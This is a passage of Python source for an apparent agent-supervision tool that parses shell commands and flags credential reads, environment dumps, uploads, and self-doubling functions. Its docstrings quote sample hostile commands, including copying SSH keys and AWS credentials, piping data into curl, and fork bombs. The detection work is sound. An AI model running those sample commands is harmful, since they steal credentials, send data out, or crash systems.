    cls = classify(effect.path, where)
    if (
        effect.tree
        and effect.mode == "read"
        and cls is not PathClass.CREDENTIAL
        and holds_credentials(effect.path, where)
    ):
        return PathClass.CREDENTIAL, "everything below it, credentials included"
    return cls, describe(cls, effect.path)


def _dumps_environment(cmd: SimpleCommand) -> bool:
    """Whether ``cmd`` prints every environment variable (``env``, ``printenv``, ``export
    -p``, ``declare -x``, ``set`` with no operands): the tokens in it go where it writes."""
    words = [w for w in cmd.argv[1:] if w not in ("-0", "--null")]
    if cmd.program in ("env", "printenv"):
        return not words
    if cmd.program in ("export", "declare", "typeset"):
        dump = words in (["-p"], ["-x"], ["-px"], ["-xp"])
        return dump or (cmd.program == "export" and not words)
    return cmd.program == "set" and not words


def _staged_credentials(parsed: ParsedShell, where: Where, context: Context) -> dict[str, str]:
    """Files written from credentials read (``cat ~/.ssh/id_rsa > /tmp/k``, ``zip -r k.zip
    ~/.aws``, ``cp ~/.netrc x``) on this command line or by the session's earlier shell
    commands (``Context.recent_actions``, the last :data:`MAX_EARLIER` of them): path written
    -> credential read. Computed once per decision (its parse, places and context)."""
    last = getattr(_memo, "staged", None)
    if last is not None and last[0] is parsed and last[1] is where and last[3] is context:
        staged: dict[str, str] = last[2]
        return staged  # every entry of one decision shares it (one frozen context each)
    staged = {}
    commands = [(cmd, "") for cmd in parsed.commands]
    for action in context.recent_actions[-MAX_EARLIER:]:
        earlier = command_of(action) if action.type == "shell" else None
        if earlier:
            before = parse_for(earlier, context).commands
            commands.extend((cmd, " by an earlier command") for cmd in before)
    for cmd, when in commands:
        effects = _effects_of(cmd, where.home)
        source = next(
            (
                e.path
                for e in effects
                if e.mode == "read"
                and _effect_class(e, where)[0] in (PathClass.CREDENTIAL, PathClass.ACCOUNT)
            ),
            "the environment" if _dumps_environment(cmd) else None,
        )
        if source is None:
            continue
        for effect in effects:
            if effect.mode == "write" and effect.path != source:
                staged.setdefault(effect.path, source + when)
    _memo.staged = (parsed, where, staged, context)
    return staged


def _calls_itself_twice(cmd: SimpleCommand, parsed: ParsedShell) -> str | None:
    """How ``cmd`` calls the shell function it runs inside alongside another call of it:
    piped into or from it (``f(){ f|f& }``), or in the background beside a second call in
    the same body (``f(){ f & f & }``). None when it does not: a single call, or calls one
    after the other, is recursion that ends or fails, not a doubling."""
    if not cmd.program or f"{cmd.program}()" not in cmd.via:
        return None
    into = cmd.pipe_to[0] if cmd.pipe_to else ""
    if into == cmd.program or cmd.program in cmd.pipe_from:
        return "through a pipe"
    if cmd.background and _twins_in_one_body(cmd, parsed.commands) >= 2:
        return "twice in the background"
    return None


def _twins_in_one_body(cmd: SimpleCommand, commands: Sequence[SimpleCommand]) -> int:
    """Calls like ``cmd`` (same program, same path to it) in the one reading of the body that
    holds it: the commands around it whose path starts with its own; a command reached by a
    shorter path (the function called again from outside) begins another reading."""
    at = next((i for i, c in enumerate(commands) if c is cmd), None)
    if at is None:
        return 0
    depth = len(cmd.via)

    def inside(c: SimpleCommand) -> bool:
        return len(c.via) >= depth and c.via[:depth] == cmd.via

    first = at
    while first > 0 and inside(commands[first - 1]):
        first -= 1
    last = at
    while last + 1 < len(commands) and inside(commands[last + 1]):
        last += 1
    return sum(
        1 for c in commands[first : last + 1] if c.program == cmd.program and c.via == cmd.via
    )


def _sends(cmd: SimpleCommand) -> bool:
    """Whether ``cmd`` sends data over the network, or its output goes into a sender."""
    if cmd.program in _REMOTE_COPIERS:
        return any(":" in w.split("/", 1)[0] for w in cmd.positionals[1:])
    if cmd.program in SENDERS:
        return True
    if any(moved.way == "upload" for moved in transfers(cmd)):
        return True  # aws s3 cp, gsutil cp, az storage blob upload, gh gist create...
    return _output_piped_to_sender(cmd)


def _stdin_upload(words: Sequence[str]) -> bool:
    """Whether a storage or transfer program run with ``words`` uploads its input:
    ``aws s3 cp - s3://b/k``, ``rclone rcat r:k``, ``gh gist create`` (no file or ``-``),
    ``az storage blob upload --file /dev/stdin``."""
    if "-" in words[1:] or "rcat" in words[1:3]:
        return True
    if any(w.endswith("/dev/stdin") or w.endswith("/dev/fd/0") for w in words[1:]):
        return True
    return list(words[1:3]) == ["gist", "create"] and not any(
        not w.startswith("-") for w in words[3:]
    )


def _output_piped_to_sender(cmd: SimpleCommand) -> bool:
    """Whether ``cmd``'s output is piped, directly or through carriers, into a sender."""
    into = cmd.pipe_to[0].rpartition("/")[2] if cmd.pipe_to else ""
    if into in SENDERS:
        return True
    if into.lower() in TRANSFER_PROGRAMS and _stdin_upload(cmd.pipe_to):
        return True
    if into not in CARRIERS:
        return False
    for program in cmd.pipe_sinks:  # cat f | gzip | base64 | curl -d @- …
        if program in SENDERS:
            return True
        # ... | gzip | gsutil cp - gs://b/k: a storage program at the end of a pipeline of
        # carriers has nothing to do with its input but upload it
        if program.lower() in TRANSFER_PROGRAMS and program != "gh":  # gh secret set reads it
            return True
        if program not in CARRIERS:
            return False
    return False


def _show_flag(flag: str, program: str) -> str:
    return "-" + flag if len(flag) == 1 or program == "find" else "--" + flag


def _glob_paths(cmd: SimpleCommand, home: str | None) -> frozenset[str]:
    """The resolved paths of the command's unexpanded glob words (``.en?``, ``*.pem``)."""
    if not cmd.glob_words:
        return frozenset()
    return frozenset(resolve_path(w, cmd.cwd, home) for w in cmd.glob_words if w)


_STRENGTH: Final = {Verdict.FLAG: 1, Verdict.NUDGE: 2, Verdict.BLOCK: 3}


@final
class ShellSpecialist:
    """Objects when a rule matches one of the commands a shell command line would run."""

    __slots__ = (
        "_by_program",
        "_fallback",
        "_images",
        "_max_chars",
        "_scratch",
        "_truncated",
        "_universal",
        "_use_tmpdir",
        "_written",
        "_written_max",
        "_written_only",
        "_written_paths",
        "execution",
    )

    def __init__(self, config: ShellConfig, default: Verdict) -> None:
        self.execution = Execution.INLINE
        base = Verdict(config.verdict) if config.verdict else default
        rules = [_Rule(i, rule, base, config.excused_by) for i, rule in enumerate(config.rules)]
        by_program: dict[str, list[_Rule]] = {}
        universal: list[_Rule] = []
        for rule in rules:
            if rule.program_globs is not None or rule.any_program:
                universal.append(rule)
            for program in rule.programs:
                by_program.setdefault(program, []).append(rule)
        self._by_program = by_program
        self._universal = tuple(universal)
        self._scratch = tuple(config.scratch)
        self._use_tmpdir = config.use_tmpdir
        self._fallback = (
            Verdict(config.verdict_when_fallback) if config.verdict_when_fallback else None
        )
        self._truncated = (
            Verdict(config.verdict_when_truncated) if config.verdict_when_truncated else None
        )
        self._max_chars = config.max_chars
        self._written = Verdict(config.written_programs) if config.written_programs else None
        self._written_max = config.written_max_chars
        self._images = Verdict(config.image_builds) if config.image_builds else None
        self._written_only = config.written_only
        self._written_paths = (
            path_globs(tuple(config.written_paths)) if config.written_paths else None
        )

    def reach(self) -> tuple[frozenset[str], tuple[WordGlobs, ...], bool, bool, int]:
        """What the rules look at, for the kind's screen: the programs they name, the
        program globs of the rest, whether one looks at every command, whether a command
        too large to read has a verdict, and the parse limit."""
        globs = tuple(r.program_globs for r in self._universal if r.program_globs is not None)
        every = any(r.any_program for r in self._universal)
        truncated = self._truncated is not None
        return frozenset(self._by_program), globs, every, truncated, self._max_chars

    def evaluate(self, action: Action, context: Context) -> SpecialistResult:
        """Ok, a refusal for an action without a command, or the strongest rule's verdict
        (of the action, of the program it writes when ``written_programs`` is set, and of
        the build steps it adds to a Dockerfile when ``image_builds`` is)."""
        written_only = self._written_only
        result = SpecialistResult.ok() if written_only else self._evaluate(action, context)
        if (self._written is None and self._images is None) or result.verdict is Verdict.BLOCK:
            return result
        # (file, its commands, the context they run in, the strongest verdict, when they run)
        runs: list[tuple[str, str, Context, Verdict, str]] = []
        if self._written is not None:
            written = self._written
            if action.type == "shell":  # known text written into a file that runs later
                runs = [
                    (path, commands, context, written, "when run")
                    for path, commands in written_commands(action, context, self._written_max)
                ]
            else:
                path = _written_path(action)
                run = written_program_of(action, context, self._written_max)
                if run is not None and path is not None:
                    runs = [(path, *run, written, "when run")]
            if self._written_paths is not None:
                runs = [r for r in runs if self._written_here(r[0], context)]
        if self._images is not None:
            runs.extend(
                (path, commands, context, self._images, "when the image is built")
                for path, commands in image_build_commands(action, context, self._written_max)
            )
        best: tuple[str, SpecialistResult, Verdict, str] | None = None
        for path, command, seen, cap, when in runs:
            judged = self._judge(command, seen)
            if best is None or judged.verdict.rank > best[1].verdict.rank:
                best = (path, judged, cap, when)
        if best is None:
            return result
        path, ran, cap, when = best
        if ran.verdict.rank <= max(result.verdict.rank, Verdict.OK.rank):
            return result
        verdict = ran.verdict if ran.verdict.rank < cap.rank else cap
        return ran.model_copy(
            update={
                "verdict": verdict,
                "reason": _cut(f"what is written to {path}, {when}: {ran.reason}", 400),
                "correction": (
                    f"Do not write this into {path}: {when}, {_cut(ran.reason or '', 200)}. "
                    "Write only the code the task needs, and ask the user before writing "
                    "code that does this."
                ),
                "evidence": {**ran.evidence, "written_program": path},
            }
        )

    def _written_here(self, path: str, context: Context) -> bool:
        """Whether the file at ``path`` is one of ``written_paths``."""
        if self._written_paths is None:
            return False
        home = context.home or context.env.get("HOME")
        where = resolve_path(path, context.cwd or context.repo_root, home)
        return self._written_paths.match(where, home)

    def _evaluate(self, action: Action, context: Context) -> SpecialistResult:
        command = command_of(action)
        if command is None:
            command = file_command_of(action, context)
        if command is None:
            return SpecialistResult.refuse()
        return self._judge(command, context)

    def _judge(self, command: str, context: Context) -> SpecialistResult:
        parsed = parse_for(command, context, max_chars=self._max_chars)
        best, best_verdict, where = self._strongest(parsed, context)
        if best is not None and where is not None:
            unknown = best.command.unknown_vars
            if unknown and best_verdict is Verdict.BLOCK:
                known = self._with_values(command, context, unknown)
                if known is not best_verdict:  # the block rests on a value nobody gave
                    return self._missing_value(best, parsed, where)
            return self._objection(best, best_verdict, parsed, where)
        if parsed.truncated and self._truncated is not None:
            return SpecialistResult(
                verdict=self._truncated,
                confidence=0.5,
                reason=(
                    "the command is too large or too deeply nested to read whole "
                    f"({'; '.join(parsed.errors[:2]) or 'limits reached'})"
                ),
                correction="Run a shorter, simpler command that can be checked.",
                evidence={"object": "truncated", "truncated": True, "fallback": parsed.fallback},
            )
        return SpecialistResult.ok()

    def _strongest(
        self, parsed: ParsedShell, context: Context
    ) -> tuple[_Hit | None, Verdict, _Where | None]:
        """The rule hit with the strongest verdict over every command of ``parsed``."""
        where: _Where | None = None  # found when a rule first asks (most commands: none)
        best: _Hit | None = None
        best_verdict = Verdict.OK
        best_where: _Where | None = None
        for cmd in parsed.commands:
            for rule in (*self._by_program.get(cmd.program, ()), *self._universal):
                if where is None:
                    where = self._where(parsed, context)
                # On another host nothing of this one's workspace, home or cwd holds.
                at = _where_for(None, None, None, self._scratch) if cmd.remote else where
                hit = rule.match(cmd, parsed, at, context)
                if hit is None:
                    continue
                verdict = self._fallback if cmd.fallback and self._fallback else rule.verdict
                excuse = rule.excuse(cmd, parsed, context) if rule.excuses else None
                if excuse is not None and not excuse[0]:  # fine here: recorded, not refused
                    hit = replace(hit, detail=f"{hit.detail}, which is fine here: {excuse[1]}")
                    verdict = Verdict.FLAG
                elif excuse is not None:
                    # Unknown is not safe, and not a refusal either: name the missing fact.
                    facts, why = excuse
                    shown = " and ".join(f"the context's {f!r}" for f in facts)
                    detail = f"{hit.detail}; {shown} is not known, and it would be fine if {why}"
                    hit = replace(hit, detail=detail, missing=facts)
                    if verdict is Verdict.BLOCK:
                        verdict = Verdict.NUDGE
                if best is None or _STRENGTH[verdict] > _STRENGTH[best_verdict]:
                    best, best_verdict, best_where = hit, verdict, at
        return best, best_verdict, best_where

    def _with_values(self, command: str, context: Context, names: Sequence[str]) -> Verdict:
        """The strongest verdict when each of ``names`` holds an ordinary value.

        A variable nobody gave a value for is read as unset, the worst case. When the
        command would be fine with a plain name in it (a directory in the working
        directory), what it does rests on a value that is missing, not on what it says.
        """
        env = dict(context.env)
        for name in names:
            env[name] = f"value-of-{name}"
        valued = context.model_copy(update={"env": env})
        parsed = parse_for(command, valued, max_chars=self._max_chars)
        return self._strongest(parsed, valued)[1]

    def _missing_value(self, hit: _Hit, parsed: ParsedShell, where: _Where) -> SpecialistResult:
        """A nudge that names the variables whose values would decide what ``hit`` does."""
        result = self._objection(hit, Verdict.NUDGE, parsed, where)
        names = ", ".join("$" + n for n in hit.command.unknown_vars[:3])
        first = hit.command.unknown_vars[0]
        evidence = dict(result.evidence)
        evidence["missing"] = [f"${n}" for n in hit.command.unknown_vars[:3]]
        return result.model_copy(
            update={
                "reason": _cut(
                    f"{result.reason}; what the command does rests on that missing value "
                    "(with an ordinary value it would not be refused)",
                    400,
                ),
                "correction": (
                    f"{names} has no value the supervisor knows. Write the path out, or set "
                    f"{first} on the same command line ({first}=… before the command) so the "
                    "command can be checked, and only then run it."
                ),
                "evidence": evidence,
            }
        )

    def _where(self, parsed: ParsedShell, context: Context) -> _Where:
        tmpdir = context.env.get("TMPDIR") if self._use_tmpdir else None
        return _where_for(context.repo_root or context.cwd, parsed.home, tmpdir, self._scratch)

    def _objection(
        self, hit: _Hit, verdict: Verdict, parsed: ParsedShell, where: _Where
    ) -> SpecialistResult:
        cmd = hit.command
        reason = hit.detail
        if cmd.unset_vars and hit.rule.target != "unsafe_expansion":
            names = ", ".join("$" + n for n in cmd.unset_vars[:3])
            reason += f", because {names} {_unset_words(cmd)} and expands to nothing"
        if cmd.prefixes and "under " not in reason:
            reason += f", under {cmd.prefixes[-1]}" if len(cmd.prefixes) == 1 else ""
        if cmd.via:
            reason += f", reached through {cmd.reached_through}"
        if cmd.synthetic:
            reason += f" (what {_cut(cmd.source, 60)!r} does)"
        if cmd.fallback:
            reason += "; the command did not parse, so it was judged on its words"
        evidence: dict[str, JsonValue] = {
            "object": _cut(hit.object, TEXT_CAP),
            "rule": hit.rule.label,
            "program": cmd.program,
            "command": _cut(cmd.source or " ".join(cmd.argv), TEXT_CAP),
            "matched": _cut(hit.matched, TEXT_CAP),
            "fallback": cmd.fallback,
        }
        if cmd.via:
            evidence["via"] = list(cmd.via)
        if cmd.prefixes:
            evidence["prefixes"] = list(cmd.prefixes)
        if where.workspace:
            evidence["workspace"] = where.workspace
        if parsed.truncated:
            evidence["truncated"] = True
        if hit.missing:
            evidence["missing"] = list(hit.missing)
        return SpecialistResult(
            verdict=verdict,
            confidence=0.8 if cmd.fallback else 1.0,
            reason=_cut(reason, 400),
            correction=hit.rule.correction or _correction(hit, where),
            evidence=evidence,
        )


# Distinct program names whose glob matches a screen remembers.
_GLOBBED_CACHE_MAX: Final = 4096


@final
class ShellScreen:
    """The ``shell`` kind's screen: one parse and one index of programs for every entry.

    A rule looks only at the commands whose program it names (by name or by glob), unless
    it names none (then at every command). Per program name the screen keeps the entries
    whose rules name it; for a command line it reads which programs the line runs (the
    parse the shell kinds share) and runs only the entries that name one of them, those
    with a rule about every command, and, for a line too large to read, those that have a
    verdict for it. Every other entry would find no rule to try: its answer is ok. An
    action without a command line (a file tool, read as the command that runs what it
    writes) is left to the entries themselves.
    """

    __slots__ = (
        "_all",
        "_every",
        "_globbed",
        "_globbed_at",
        "_limits",
        "_named",
        "_others",
        "_truncated",
    )

    def __init__(self, specialists: Sequence[object]) -> None:
        self._all = tuple(range(len(specialists)))
        named: dict[str, set[int]] = {}
        globbed: list[tuple[WordGlobs, int]] = []
        others: list[int] = []  # not ours to answer for: they always run
        every: list[int] = []  # a rule about every command
        truncated: list[int] = []
        limits: dict[int, list[int]] = {}
        for index, specialist in enumerate(specialists):
            if not isinstance(specialist, ShellSpecialist):
                others.append(index)
                continue
            programs, globs, any_program, when_truncated, limit = specialist.reach()
            for program in programs:
                named.setdefault(program, set()).add(index)
            globbed.extend((glob, index) for glob in globs)
            if any_program:
                every.append(index)
            if when_truncated:
                truncated.append(index)
            limits.setdefault(limit, []).append(index)
        self._named = {program: frozenset(at) for program, at in named.items()}
        self._globbed = tuple(globbed)
        self._others = tuple(others)
        self._every = frozenset(every)
        self._truncated = frozenset(truncated)
        # Per parse limit, the entries that read the line under it (most share one).
        self._limits = tuple((limit, frozenset(at)) for limit, at in limits.items())
        self._globbed_at: dict[str, frozenset[int]] = {}

    def __call__(self, action: Action, context: Context) -> tuple[Sequence[int], Sequence[int]]:
        command = command_of(action)
        if command is None:
            return self._all, ()
        run = set(self._others)
        for limit, members in self._limits:
            parsed = parse_for(command, context, max_chars=limit)
            reached = set(self._every) if parsed.commands else set()
            if parsed.truncated:
                reached |= self._truncated
            for program in {cmd.program for cmd in parsed.commands}:
                at = self._named.get(program)
                if at is not None:
                    reached |= at
                if self._globbed:
                    reached |= self._by_glob(program)
            run |= reached if len(self._limits) == 1 else reached & members
        return tuple(run), ()

    def _by_glob(self, program: str) -> frozenset[int]:
        """The entries with a program glob that matches ``program``."""
        at = self._globbed_at.get(program)
        if at is None:
            at = frozenset(i for glob, i in self._globbed if glob.match(program))
            if len(self._globbed_at) >= _GLOBBED_CACHE_MAX:
                self._globbed_at.clear()
            self._globbed_at[program] = at
        return at


def _correction(hit: _Hit, where: _Where) -> str:
    rule = hit.rule
    if rule.target in ("outside_workspace", "root_or_home"):
        inside = f" inside {where.workspace}" if where.workspace else ""
        return (
            f"Do not run this: it reaches {hit.object}. Limit the command to explicit paths"
            f"{inside}, and ask the user before touching anything else."
        )
    if rule.target == "unsafe_expansion":
        return (
            "Use literal, quoted paths (or check the variable first, e.g. ${VAR:?}) so that an "
            "empty or split value cannot widen what the command touches."
        )
    if rule.target == "unknown":
        return "Resolve the value first, check it, then run the command on the literal paths."
    if rule.pipe:
        return (
            "Download the script to a file, read it, verify its checksum or signature, and run "
            "it only if it is what you expect."
        )
    return f"Do not run {hit.command.program or 'this'} like this; find a narrower way to do it."


def _build(entry: Entry, config: KindConfig) -> ShellSpecialist:
    if not isinstance(config, ShellConfig):
        raise TypeError(f"shell kind needs a ShellConfig, got {type(config).__name__}")
    preload()
    return ShellSpecialist(config, entry.default)


SHELL_KIND: Final = SpecialistKind(
    name=KIND_NAME,
    config_model=ShellConfig,
    build=_build,
    version=KIND_VERSION,
    description="Rules over every simple command a shell command line would run.",
    screen=ShellScreen,
)


@hookimpl
def supervisor_register_kinds() -> list[SpecialistKind]:
    """Register the ``shell`` kind."""
    return [SHELL_KIND]
